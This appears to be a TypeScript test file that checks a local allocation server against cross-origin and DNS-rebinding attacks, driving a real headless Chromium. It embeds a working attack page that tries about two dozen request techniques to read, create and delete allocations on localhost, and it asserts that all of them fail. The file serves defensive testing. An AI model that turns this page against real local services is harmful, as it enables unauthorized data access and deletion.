import { existsSync } from "node:fs"
import { join } from "node:path"
import { describe, expect, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Schema from "effect/Schema"
import { allocate } from "../support/Api.ts"
import { start, startServer, temporaryFolder } from "../support/Programs.ts"
import { website } from "../support/Website.ts"
import { call, send } from "../support/Wire.ts"

const path = "/v1/allocations"
const chromium = "/usr/bin/chromium"
const missing = existsSync(chromium) ? undefined : `there is no ${chromium} (Debian: apt-get install chromium)`
if (missing !== undefined) console.log(`SKIPPED browser.verify.ts: ${missing}`)
const test = missing === undefined ? it.scopedLive : it.scopedLive.skip

/** Start a headless Chromium with a profile of its own. */
const browse = (...args: ReadonlyArray<string>) =>
  Effect.gen(function* () {
    const profile = yield* temporaryFolder
    return yield* start(
      chromium,
      [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--disable-dev-shm-usage",
        "--host-resolver-rules=MAP *.test 127.0.0.1",
        `--user-data-dir=${join(profile, "profile")}`,
        ...args
      ],
      { env: { HOME: profile } }
    )
  })

const outcomes = Schema.decodeUnknownSync(
  Schema.parseJson(Schema.Array(Schema.Struct({ name: Schema.String, outcome: Schema.String })))
)

/** What a page does to get at the server; it reports to its own origin. `%TARGETS%` are the bases it attacks. */
const attack = `<!doctype html><meta charset="utf-8"><title>page</title><body><script>
const results = []
const note = (name, outcome) => results.push({ name, outcome: String(outcome) })
const json = JSON.stringify({ app: "evil", instance: "page", service: "web" })
const within = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve("nothing in 3 s"), 3000))])
const attempt = async (name, run) => { try { note(name, await within(run())) } catch (error) { note(name, error.name) } }
const reading = async (response) => response.type + " " + response.status + " " + (await response.text())
const element = (tag, set) => new Promise((resolve) => {
  const it = document.createElement(tag)
  it.onload = () => {
    let inside = ""
    try { inside = it.contentDocument ? it.contentDocument.body.innerText : "" } catch {}
    resolve("loaded " + inside)
  }
  it.onerror = () => resolve("error")
  set(it)
  document.body.append(it)
})
const form = (action, enctype, fields) => new Promise((resolve) => {
  const name = "f" + Math.random()
  const frame = document.createElement("iframe")
  frame.name = name
  document.body.append(frame)
  const form = Object.assign(document.createElement("form"), { action, enctype, method: "POST", target: name })
  for (const [name, value] of fields) form.append(Object.assign(document.createElement("input"), { name, value }))
  document.body.append(form)
  frame.onload = () => {
    if (form.dataset.sent !== "yes") return
    let inside = ""
    try { inside = frame.contentDocument ? frame.contentDocument.body.innerText : "" } catch {}
    resolve("loaded " + inside)
  }
  setTimeout(() => { form.dataset.sent = "yes"; form.submit() }, 50)
})
const attacks = async (base) => {
  const list = base + "/v1/allocations"
  const f = (method, mode, more = {}) => async () => reading(await fetch(list + (more.path ?? ""), { method, mode, ...more }))
  const plain = { "Content-Type": "text/plain" }
  await Promise.all([
    attempt(base + " fetch GET cors", f("GET", "cors")),
    attempt(base + " fetch GET no-cors", f("GET", "no-cors")),
    attempt(base + " fetch GET cors with credentials", f("GET", "cors", { credentials: "include" })),
    attempt(base + " fetch GET cors without referrer", f("GET", "cors", { referrerPolicy: "no-referrer" })),
    attempt(base + " fetch POST cors", f("POST", "cors", { body: json })),
    attempt(base + " fetch POST cors text/plain", f("POST", "cors", { body: json, headers: plain })),
    attempt(base + " fetch POST cors JSON", f("POST", "cors", { body: json, headers: { "Content-Type": "application/json" } })),
    attempt(base + " fetch POST no-cors", f("POST", "no-cors", { body: json })),
    attempt(base + " fetch POST no-cors keepalive", f("POST", "no-cors", { body: json, keepalive: true })),
    attempt(base + " fetch POST no-cors form", f("POST", "no-cors", { body: new URLSearchParams({ app: "evil", instance: "a", service: "b" }) })),
    attempt(base + " fetch DELETE cors", f("DELETE", "cors", { path: "/1" })),
    attempt(base + " fetch DELETE no-cors", f("DELETE", "no-cors", { path: "/1" })),
    attempt(base + " fetch DELETE cors by filter", f("DELETE", "cors", { body: JSON.stringify({ app: "secret-app" }) })),
    attempt(base + " fetch HEAD cors", f("HEAD", "cors")),
    attempt(base + " XMLHttpRequest", () => new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.open("POST", list)
      request.onloadend = () => resolve(request.status + " " + request.responseText)
      request.send(json)
    })),
    attempt(base + " beacon", async () => "queued " + navigator.sendBeacon(list, json)),
    attempt(base + " image", () => element("img", (it) => { it.src = list })),
    attempt(base + " script", () => element("script", (it) => { it.src = list })),
    attempt(base + " module", () => import(list).then(() => "loaded")),
    attempt(base + " stylesheet", () => element("link", (it) => { it.rel = "stylesheet"; it.href = list })),
    attempt(base + " frame", () => element("iframe", (it) => { it.src = list })),
    attempt(base + " sandboxed frame", () => element("iframe", (it) => { it.sandbox = "allow-scripts"; it.srcdoc = "<script>fetch('" + list + "',{method:'POST',mode:'no-cors',body:" + JSON.stringify(JSON.stringify({ app: "evil", instance: "null", service: "origin" })) + "})</" + "script>" })),
    attempt(base + " object", () => element("object", (it) => { it.data = list })),
    attempt(base + " form text/plain", () => form(list, "text/plain", [['{"app":"evil","instance":"form","service":"', '"}']])),
    attempt(base + " form urlencoded", () => form(list, "application/x-www-form-urlencoded", [["app", "evil"], ["instance", "a"], ["service", "b"]])),
    attempt(base + " form multipart", () => form(list, "multipart/form-data", [["app", "evil"]])),
    attempt(base + " EventSource", () => new Promise((resolve) => {
      const source = new EventSource(list)
      source.onopen = () => resolve("open")
      source.onerror = () => { source.close(); resolve("error") }
    })),
    attempt(base + " WebSocket", () => new Promise((resolve) => {
      const socket = new WebSocket(base.replace("http", "ws") + "/v1/allocations")
      socket.onopen = () => resolve("open")
      socket.onmessage = (event) => resolve("message " + event.data)
      socket.onerror = () => resolve("error")
    }))
  ])
}
const run = async () => {
  for (const base of %TARGETS%) await attacks(base)
  const timing = performance.getEntriesByType("resource").filter(({ decodedBodySize }) => decodedBodySize > 0)
  for (const { name, decodedBodySize } of timing) note("size of " + name, decodedBodySize)
  await fetch("/report", { method: "POST", body: JSON.stringify(results) })
}
run()
</script>`

/** Load the page from `host` and hand back what it reports. */
const report = (host: string, targets: ReadonlyArray<string>) =>
  Effect.gen(function* () {
    let resolve: (body: string) => void = () => {}
    const reported = new Promise<string>((done) => {
      resolve = done
    })
    const port = yield* website((request, response) => {
      if (request.url === "/report") {
        let body = ""
        request.setEncoding("utf8").on("data", (text: string) => {
          body += text
        })
        request.on("end", () => {
          response.end()
          resolve(body)
        })
        return
      }
      response.writeHead(200, { "Content-Type": "text/html" })
      response.end(request.url === "/" ? attack.replace("%TARGETS%", JSON.stringify(targets)) : "")
    })
    yield* browse(`http://${host}:${port}/`)
    const body = yield* Effect.promise(() => reported).pipe(
      Effect.timeout("90 seconds"),
      Effect.orDieWith(() => new Error("the page has reported nothing in 90 s"))
    )
    return outcomes(body)
  }).pipe(Effect.scoped)

describe("a page of another origin in a real browser", () => {
  for (const host of ["localhost", "127.0.0.1", "rebound.test"]) {
    test(`from http://${host} changes nothing and reads nothing`, () =>
      Effect.gen(function* () {
        const server = yield* startServer()
        const secret = [
          yield* allocate(server.port, { app: "secret-app" }),
          yield* allocate(server.port, { app: "secret-app" })
        ]
        // A server that refuses nothing: what reaches it would have reached ours.
        const reached = new Set<string>()
        const naive = yield* website((request, response) => {
          reached.add(`${request.method} ${request.headers["sec-fetch-dest"] ?? "?"}`)
          request.resume().on("end", () => {
            response.writeHead(200, { "Content-Type": "application/json" })
            response.end('[{"naive":"answer"}]')
          })
        })
        const targets = [
          `http://127.0.0.1:${server.port}`,
          `http://localhost:${server.port}`,
          `http://rebound.test:${server.port}`
        ]
        const results = yield* report(host, [...targets, `http://127.0.0.1:${naive}`])
        const ours = results.filter(({ name }) => !name.includes(`:${naive}`))
        const counts = new Map<string, number>()
        for (const { outcome } of ours) counts.set(outcome, (counts.get(outcome) ?? 0) + 1)
        console.log(`from http://${host}, ${ours.length} attempts: ${JSON.stringify(Object.fromEntries(counts))}`)
        expect(ours.length).toBeGreaterThanOrEqual(3 * 27)
        // Whatever the page got, no byte of an answer is in it.
        const allowed = /^(TypeError|error|opaque 0 |0 |queued (true|false)|loaded |nothing in 3 s)$/
        expect(ours.filter(({ outcome }) => !allowed.test(outcome))).toEqual([])
        expect(JSON.stringify(results)).not.toContain("secret-app")
        expect((yield* call(server.port, "GET", path)).json).toEqual(secret)
        expect((yield* call(server.port, "GET", "/healthz")).status).toBe(200)
        expect(server.output.stderr).toBe("")
        // The attempts were real: the browser sends them to a server that does not defend itself.
        for (const sent of ["GET empty", "POST empty", "GET image", "GET script", "POST iframe", "GET iframe"]) {
          expect([...reached], sent).toContain(sent)
        }
      }))
  }

  test("a rebound name: the address itself shows the list, the name gets 403", () =>
    Effect.gen(function* () {
      const server = yield* startServer()
      yield* allocate(server.port, { app: "secret-app" })
      const shown = (host: string) =>
        Effect.flatMap(browse("--dump-dom", `http://${host}:${server.port}${path}`), ({ ended }) =>
          Effect.map(ended, ({ stdout }) => stdout)
        )
      expect(yield* shown("127.0.0.1")).toContain("secret-app")
      const rebound = yield* shown("rebound.test")
      expect(rebound).toContain("forbidden host")
      expect(rebound).not.toContain("secret-app")
    }))
})

describe("what a browser sends for a page whose name was rebound", () => {
  for (const [title, head, body] of [
    ["a read", `GET ${path} HTTP/1.1`, ""],
    ["an allocation", `POST ${path} HTTP/1.1\nContent-Type: text/plain`, '{"app":"evil","instance":"a","service":"b"}'],
    ["a release", `DELETE ${path}/1 HTTP/1.1`, ""],
    ["a release by filter", `DELETE ${path} HTTP/1.1`, '{"app":"secret-app"}']
  ] as const) {
    it.scopedLive(`${title}: 403, though it is same-origin for the browser`, () =>
      Effect.gen(function* () {
        const { port } = yield* startServer()
        const secret = yield* allocate(port, { app: "secret-app" })
        const name = `rebound.test:${port}`
        const answer = yield* send(
          port,
          `${head}\nHost: ${name}\nOrigin: http://${name}\nReferer: http://${name}/\nSec-Fetch-Site: same-origin\nSec-Fetch-Mode: cors`,
          body
        )
        expect({ status: answer.status, json: answer.json }).toEqual({ status: 403, json: { error: "forbidden host" } })
        expect((yield* call(port, "GET", path)).json).toEqual([secret])
      })
    )
  }
})
